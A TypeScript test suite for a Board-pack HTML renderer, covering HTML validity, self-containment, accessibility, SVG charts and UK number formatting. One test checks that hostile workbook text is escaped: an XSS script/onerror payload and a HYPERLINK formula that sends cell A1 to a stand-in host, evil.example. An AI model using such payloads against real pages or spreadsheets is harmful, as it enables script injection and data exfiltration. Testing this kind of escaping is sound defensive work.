/**
 * The Board pack's HTML from hand-made packs: valid HTML (html-validate,
 * recommended rules), self-contained, the sections of contract 9 in order,
 * accessible structure, charts with their numbers in words, and hostile
 * workbook text inert, kept whole and isolated.
 */
import { describe, expect, it } from 'vitest';
import { HtmlValidate } from 'html-validate';
import { renderBoardPack, documentTitle } from '../../../src/core/board/render';
import { chartScale, renderChart } from '../../../src/core/board/render/chart';
import { escapeHtml } from '../../../src/core/board/render/html';
import { formatGap, formatNumber, formatValue, gapWords } from '../../../src/core/board/render/format';
import { HOSTILE, hostilePack, measure, samplePack, SEP_2016 } from './pack-fixtures';

const validator = new HtmlValidate({ extends: ['html-validate:recommended'] });

async function problems(html: string): Promise<string[]> {
  const report = await validator.validateString(html);
  return report.results.flatMap((r) => r.messages.map((m) => `${m.line}:${m.column} ${m.ruleId}: ${m.message}`));
}

function cleanPack() {
  return samplePack({
    cover: { errors: 0, warnings: 0, draft: null, errorRules: [] },
    summary: { previousMonth: null, rows: samplePack().summary.rows.map((r) => ({ ...r, changes: null })) },
    moved: { previousMonth: null, items: [] },
    dataQuality: { rules: [] },
  });
}

describe('renderBoardPack', () => {
  it('is valid HTML for a pack with errors, a clean pack, a hostile pack and an empty pack', async () => {
    const empty = samplePack({
      exceptions: { actions: [], measures: [] },
      moved: { previousMonth: SEP_2016 - 1, items: [] },
      scorecard: { themes: [] },
      leads: { leads: [] },
      dataQuality: { rules: [] },
    });
    for (const pack of [samplePack(), cleanPack(), hostilePack(), empty]) {
      expect(await problems(renderBoardPack(pack))).toEqual([]);
    }
  });

  it('is self-contained: no script, no external request, only in-page links', () => {
    const html = renderBoardPack(hostilePack());
    expect(html).not.toMatch(/<script/i);
    expect(html).not.toMatch(/<(img|link|iframe|object|embed)\b/i);
    expect(html).not.toMatch(/<[^>]*\son[a-z]+=/i);
    expect(html).not.toMatch(/url\(/i);
    expect(html).not.toMatch(/@import/i);
    const hrefs = html.match(/href="[^"]*"/g) ?? [];
    expect(hrefs.length).toBe(6);
    for (const h of hrefs) expect(h).toMatch(/^href="#[a-z-]+"$/);
    expect(html).not.toMatch(/<[^>]*\ssrc=/i);
  });

  it('has the sections of contract 9 in order, one h1 and headings that never skip a level', () => {
    const html = renderBoardPack(samplePack());
    const ids = ['top', 'summary', 'exceptions', 'moved', 'scorecard', 'leads', 'data-quality'];
    const at = ids.map((id) => html.indexOf('id="' + id + '"'));
    expect(at.every((i) => i > 0)).toBe(true);
    expect(at.slice().sort((a, b) => a - b)).toEqual(at);
    expect(html.match(/<h1[\s>]/g)?.length).toBe(1);
    const levels = (html.match(/<h([1-6])[\s>]/g) ?? []).map((h) => Number(h.charAt(2)));
    for (let i = 1; i < levels.length; i++) expect(levels[i] - levels[i - 1]).toBeLessThanOrEqual(1);
    expect(html).toContain('<html lang="en-GB">');
    expect(html).toMatch(/<main>/);
    expect(html).toMatch(/<footer>/);
    // Every table has a caption and its column headers a scope.
    const tables = html.match(/<table[\s\S]*?<\/table>/g) ?? [];
    expect(tables.length).toBeGreaterThan(5);
    for (const t of tables) {
      expect(t).toMatch(/<caption/);
      expect(t).not.toMatch(/<th(?=[\s>])(?![^>]*scope=)/);
    }
    // A4, a page break before each section, headers repeated on every printed page.
    expect(html).toContain('size: A4 portrait');
    expect(html).toMatch(/main > section \{ break-before: page;/);
    expect(html).toContain('thead { display: table-header-group; }');
  });

  it('says DRAFT on every printed page and on the cover when the check found errors, and lists the error rules', () => {
    const html = renderBoardPack(samplePack());
    expect(html).toMatch(/@top-center \{ content: "DRAFT: the plan has 10 errors"/);
    expect(html).toContain('<div class="draft screen-draft" role="note">DRAFT: the plan has 10 errors</div>');
    expect(html).toContain('<title>DRAFT: Board pack, September 2016: ');
    expect(html).toMatch(/Due date is not a date<\/th><td><code>due-invalid<\/code><\/td><td class="num">2</);
    const clean = renderBoardPack(cleanPack());
    expect(clean).not.toMatch(/DRAFT/);
    expect(clean).toContain('The plan passed the check: no errors.');
    expect(clean).toContain('There is no earlier month in Roll-up history');
    expect(clean).toContain('There is no earlier month in RAG history');
  });

  it('gives dates the UK way and the as-of date with where it came from', () => {
    const html = renderBoardPack(samplePack());
    expect(html).toContain('Improvement Board pack for September 2016');
    expect(html).toContain('<dd>30/09/2016 <span class="muted">(from <bdi>Settings!B5</bdi>)</span></dd>');
    expect(html).toContain('<dd>03/10/2016</dd>');
    expect(html).toContain('as of 30/09/2016 (Settings!B5)');
  });

  it('shows every rating as a word with a shape, and what moved as From -> To', () => {
    const html = renderBoardPack(samplePack());
    // Shapes come from the stylesheet, kept out of what screen readers say.
    expect(html).toContain('.rag-red::before { content: "\\25b2\\a0" / ""; }');
    expect(html).toContain('.rag-amber::before { content: "\\25c6\\a0" / ""; }');
    expect(html).toContain('<span class="rag rag-red">Red</span>');
    expect(html).toContain('<span class="rag rag-amber">Amber</span> <span aria-hidden="true">&#8594;</span><span class="visually-hidden">to</span> <span class="rag rag-red">Red</span>');
    expect(html).toContain('<span class="rag rag-new">New</span>');
    expect(html).toContain('<span class="shape" aria-hidden="true">&#8593;</span> Improving');
    expect(html).toContain('<span class="shape" aria-hidden="true">&#8722;</span> Worse</span> <span class="small">(&#8722;20.0 points)</span>');
    expect(html).toContain('2 changed RAG since August 2016, and 1 is new (no row last month).');
    expect(html).toContain('<td class="num">13.0 points below target</td>');
    // Summary counts with their change since last month.
    expect(html).toMatch(/<th scope="row"><bdi>All themes<\/bdi><\/th><td class="num">11 <span class="small muted">\(0\)<\/span><\/td>/);
  });

  it('keeps hostile workbook text inert, whole, isolated and wrapped', () => {
    const html = renderBoardPack(hostilePack());
    expect(html).not.toContain(HOSTILE.markup);
    expect(html).toContain(escapeHtml(HOSTILE.markup));
    expect(html).toContain('&lt;script&gt;window.__xss=1&lt;/script&gt;&lt;img src=x onerror=&quot;window.__xss=2&quot;&gt;');
    expect(html).toContain('=HYPERLINK(&quot;http://evil.example/?q=&quot;&amp;A1,&quot;Click me&quot;)');
    expect(html).toContain('Tom&#39;s &quot;plan&quot; &amp; &lt;b&gt;more&lt;/b&gt;');
    // Long text is never cut (only the browser tab's title is), and wraps anywhere.
    expect(html).toContain('<bdi>' + HOSTILE.long + '</bdi>');
    expect(html).toContain('overflow-wrap: anywhere');
    expect(html).toContain('table-layout: fixed');
    // Right-to-left text keeps its own direction without reordering its neighbours; it is written
    // as character references (the pack is ASCII), which read back as the same text.
    const rtl = '<bdi>&#1582;&#1591;&#1577; &#1575;&#1604;&#1578;&#1581;&#1587;&#1610;&#1606; &#8238; reversed</bdi>';
    expect(html).toContain(rtl);
    expect(rtl.replace(/&#(\d+);/g, (_m, n: string) => String.fromCodePoint(Number(n)))).toBe('<bdi>' + HOSTILE.rtl + '</bdi>');
    // A RAG word from RAG history that is not a RAG is just text.
    expect(html).toContain('<span class="rag rag-proto">__proto__</span>');
  });

  it('is ASCII: every character above it written as a character reference, astral ones whole', () => {
    for (const pack of [samplePack(), hostilePack()]) expect(renderBoardPack(pack)).toMatch(/^[\t\n\r\x20-\x7E]*$/);
    expect(escapeHtml('caf\u00E9 \u2212 \u2019 \uD83D\uDE00 \uD800')).toBe('caf&#233; &#8722; &#8217; &#128512; &#65533;');
  });

  it('cuts only the tab title, to 70 characters as written', () => {
    const t = documentTitle('<'.repeat(100), 'September 2016', true);
    expect(t.length).toBeLessThanOrEqual(70);
    expect(t.startsWith('DRAFT: Board pack, September 2016: &lt;')).toBe(true);
    expect(t.endsWith('&#8230;')).toBe(true);
    expect(documentTitle('Plan', 'May 2016', false)).toBe('Board pack, May 2016: Plan');
  });
});

describe('charts', () => {
  it('are svg images named by a title, with a description that gives every number', () => {
    const m = measure({ id: 'CL1', name: 'Care leavers' });
    const svg = renderChart(m.chart, m.unit, SEP_2016, 'CL1 Care leavers', 'm1');
    expect(svg).toMatch(/^<svg class="chart" role="img" viewBox="0 0 320 168" aria-labelledby="m1-t m1-d"/);
    expect(svg).toContain('<title id="m1-t">Chart of CL1 Care leavers, April 2016 to March 2017</title>');
    expect(svg).toContain(
      '<desc id="m1-d">Monthly values: April 2016 58.0%, May 2016 60.0%, June 2016 no data, July 2016 61.0%, August 2016 60.0%, September 2016 62.0%. ' +
        'No values yet for the 6 months after September 2016. Target 75.0%. Trajectory from 61.3% in April 2016 to 75.0% in March 2017. ' +
        'Comparators: England 82.0%, Statistical neighbours 61.5%, Core cities 70.0%. The value axis runs from 50%, not from zero.</desc>',
    );
    // The no-data month is a gap: the values line starts again after it.
    const d = /<path class="values" d="([^"]+)"/.exec(svg)?.[1] ?? '';
    expect(d.match(/M/g)?.length).toBe(2);
    expect(/<path class="dots" d="([^"]+)"/.exec(svg)?.[1].match(/h0/g)?.length).toBe(5);
    expect(svg).toContain('<path class="target"');
    // The trajectory is linear (contract 3.3): one straight line from April to March.
    expect(svg).toMatch(/<path class="trajectory" d="M54 [\d.]+L254 [\d.]+"\/>/);
    // The month letters: one text, an x per month.
    expect(svg).toContain('<text class="month" x="54 72.2 90.4 108.5 126.7 144.9 163.1 181.3 199.5 217.6 235.8 254" y="151" text-anchor="middle">AMJJASONDJFM</text>');
    expect(svg.match(/class="cmp[" ]/g)?.length).toBe(3);
    expect(svg).toContain('<p class="axisnote">The value axis does not start at zero.</p>');
  });

  it('say when there is nothing to chart', () => {
    const empty = { months: [SEP_2016], values: [null], target: null, trajectory: null, comparators: [] };
    const svg = renderChart(empty, 'number', SEP_2016, 'X', 'm9');
    expect(svg).toContain('No data to chart');
    expect(svg).toContain('Monthly values: September 2016 no data. No target.');
  });

  it('start the axis at zero unless that flattens the line', () => {
    expect(chartScale([3, 10])).toMatchObject({ lo: 0, fromZero: true });
    expect(chartScale([0.58, 0.75])).toMatchObject({ lo: 0.55, hi: 0.75, fromZero: false });
    expect(chartScale([-5, 5])).toMatchObject({ fromZero: true });
    expect(chartScale([7, 7])).toMatchObject({ fromZero: false });
    expect(chartScale([0, 0])).toMatchObject({ lo: 0, fromZero: true });
    expect(chartScale([])).toBeNull();
  });

  it('put ticks on exact decimals and label them with the decimals they need', () => {
    // 0.7 / 0.05 is 13.999999999999998 in binary: the axis must still start at 70%, not 65%.
    expect(chartScale([0.7, 0.8])).toMatchObject({ lo: 0.7, hi: 0.8, ticks: [0.7, 0.725, 0.75, 0.775, 0.8], decimals: 3 });
    expect(chartScale([0.1, 0.3])?.ticks).toEqual([0, 0.1, 0.2, 0.3]);
    expect(chartScale([20, 28])).toMatchObject({ lo: 20, hi: 28, ticks: [20, 22, 24, 26, 28], decimals: 0 });
    expect(chartScale([17.6, 26])).toMatchObject({ lo: 17.5, ticks: [17.5, 20, 22.5, 25, 27.5], decimals: 1 });
    const m = measure({ id: 'P1', name: 'Share' });
    const pct = { ...m.chart, values: [0.7, 0.72, 0.75, null, null, null, null, null, null, null, null, null], target: 0.8, trajectory: null, comparators: [] };
    const svg = renderChart(pct, 'percent', SEP_2016, 'P1 Share', 'p1');
    // Steps of 2.5 points are labelled 72.5%, never rounded to 73%.
    expect(svg.match(/<text x="42" y="[\d.]+">([^<]+)<\/text>/g)?.map((t) => t.replace(/<[^>]+>/g, ''))).toEqual(['70.0%', '72.5%', '75.0%', '77.5%', '80.0%']);
    expect(svg).toContain('The value axis runs from 70.0%, not from zero.');
    const days = { ...pct, values: [17.6, 20, 26, null, null, null, null, null, null, null, null, null], target: 22 };
    expect(renderChart(days, 'days', SEP_2016, 'D1', 'd1').match(/<text x="42" y="[\d.]+">([^<]+)<\/text>/g)?.map((t) => t.replace(/<[^>]+>/g, ''))).toEqual(['17.5', '20.0', '22.5', '25.0', '27.5']);
  });
});

describe('numbers in the pack', () => {
  it('are rounded half away from zero on the digits shown, with thousands separators and a real minus', () => {
    expect(formatNumber(61.25, 1)).toBe('61.3');
    expect(formatNumber(612.4999999999999, 0)).toBe('613');
    expect(formatNumber(1234567.891, 2)).toBe('1,234,567.89');
    expect(formatNumber(-1234.5, 0)).toBe('\u22121,235');
    expect(formatNumber(0.05, 2)).toBe('0.05');
    expect(formatNumber(-0.04, 1)).toBe('0.0');
    expect(formatNumber(999.96, 1)).toBe('1,000.0');
    expect(formatNumber(12.5, 4)).toBe('12.5000');
    expect(formatNumber(1e20, 0)).toBe('100,000,000,000,000,000,000');
    expect(formatNumber(Number.NaN, 1)).toBe('NaN');
  });

  it('show each unit the way a Board member reads it', () => {
    expect(formatValue(0.62, 'percent')).toBe('62.0%');
    expect(formatValue(1234, 'number')).toBe('1,234');
    expect(formatValue(45.25, 'rate')).toBe('45.3');
    expect(formatValue(1, 'days')).toBe('1 day');
    expect(formatValue(21, 'days')).toBe('21 days');
    expect(formatValue(-3.5, 'number')).toBe('\u22123.50');
    expect(formatGap(-0.13, 'percent')).toBe('\u221213.0 points');
    expect(formatGap(0.01, 'percent')).toBe('+1.0 point');
    expect(formatGap(0, 'percent')).toBe('0.0 points');
    expect(formatGap(3, 'days')).toBe('+3 days');
    expect(formatGap(-20, 'number')).toBe('\u221220');
    // The gap to target in words, the same for every polarity.
    expect(gapWords(0.44, 0.5, 'percent')).toBe('6.0 points below target');
    expect(gapWords(0.035, 0.03, 'percent')).toBe('0.5 points above target');
    expect(gapWords(0.6, 0.6, 'percent')).toBe('on target');
    expect(gapWords(401, 380, 'number')).toBe('21 above target');
    expect(gapWords(10, 12, 'days')).toBe('2 days below target');
  });
});
